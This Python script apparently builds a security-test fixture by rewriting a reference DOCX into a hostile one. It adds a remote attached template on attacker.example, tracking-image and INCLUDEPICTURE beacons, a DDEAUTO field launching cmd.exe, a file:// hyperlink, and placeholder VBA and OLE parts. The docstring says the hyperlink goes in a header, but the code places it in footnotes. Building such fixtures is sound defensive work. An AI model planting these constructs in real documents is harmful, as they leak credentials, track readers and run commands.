"""Rewrite templates/docx/reference.docx (in the current folder) into a hostile one: an
external attached template, a VBA project, an external tracking image and body fields
INCLUDEPICTURE and DDEAUTO (the security review's reproduction of C48), plus a header with
a HYPERLINK field and an embedded OLE object."""

import zipfile

PATH = "templates/docx/reference.docx"
src = zipfile.ZipFile(PATH)
f = {n: src.read(n) for n in src.namelist()}
src.close()
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
settings = f["word/settings.xml"].decode()
f["word/settings.xml"] = settings.replace(
    f"<w:settings {W}>", f'<w:settings {W} {R}><w:attachedTemplate r:id="rId99"/>', 1
).encode()
assert b"attachedTemplate" in f["word/settings.xml"]
f["word/_rels/settings.xml.rels"] = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId99" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="file://attacker.example/share/evil.dotm" TargetMode="External"/></Relationships>'
)
rels = f["word/_rels/document.xml.rels"].decode()
f["word/_rels/document.xml.rels"] = rels.replace(
    "</Relationships>",
    (
        '<Relationship Id="rId98" '
        'Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
        'Target="vbaProject.bin"/>'
        '<Relationship Id="rId97" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" '
        'Target="http://attacker.example/track.png" TargetMode="External"/>'
        '<Relationship Id="rId96" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" '
        'Target="embeddings/ole1.bin"/>'
        "</Relationships>"
    ),
).encode()
f["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"FAKE-VBA-PROJECT" * 10
f["word/embeddings/ole1.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"FAKE-OLE" * 10
ct = f["[Content_Types].xml"].decode()
f["[Content_Types].xml"] = ct.replace(
    '<Default Extension="png"',
    '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    '<Default Extension="png"',
    1,
).encode()
doc = f["word/document.xml"].decode()
f["word/document.xml"] = doc.replace(
    "<w:body>",
    (
        "<w:body><w:p>"
        "<w:fldSimple w:instr=' INCLUDEPICTURE \"http://attacker.example/beacon.png\" \\d '>"
        "<w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>"
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">'
        ' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        "<w:p><w:r><w:t>BODY-TEXT-FROM-THE-REFERENCE</w:t></w:r><w:r><w:drawing>"
        '<a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:link="rId97"/>'
        "</w:drawing></w:r></w:p>"
    ),
    1,
).encode()
notes = f["word/footnotes.xml"].decode()
f["word/footnotes.xml"] = notes.replace(
    "<w:r><w:separator/></w:r>",
    (
        "<w:r><w:separator/></w:r>"
        "<w:fldSimple w:instr=' HYPERLINK \"file://attacker.example/x\" '>"
        "<w:r><w:t>NOTE-LINK</w:t></w:r></w:fldSimple>"
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText> INCLUDEPICTURE "http://attacker.example/n.png" </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>NOTE-RESULT</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    ),
    1,
).encode()
assert b"NOTE-RESULT" in f["word/footnotes.xml"]
with zipfile.ZipFile(PATH, "w", zipfile.ZIP_DEFLATED) as z:
    for name, blob in f.items():
        z.writestr(name, blob)
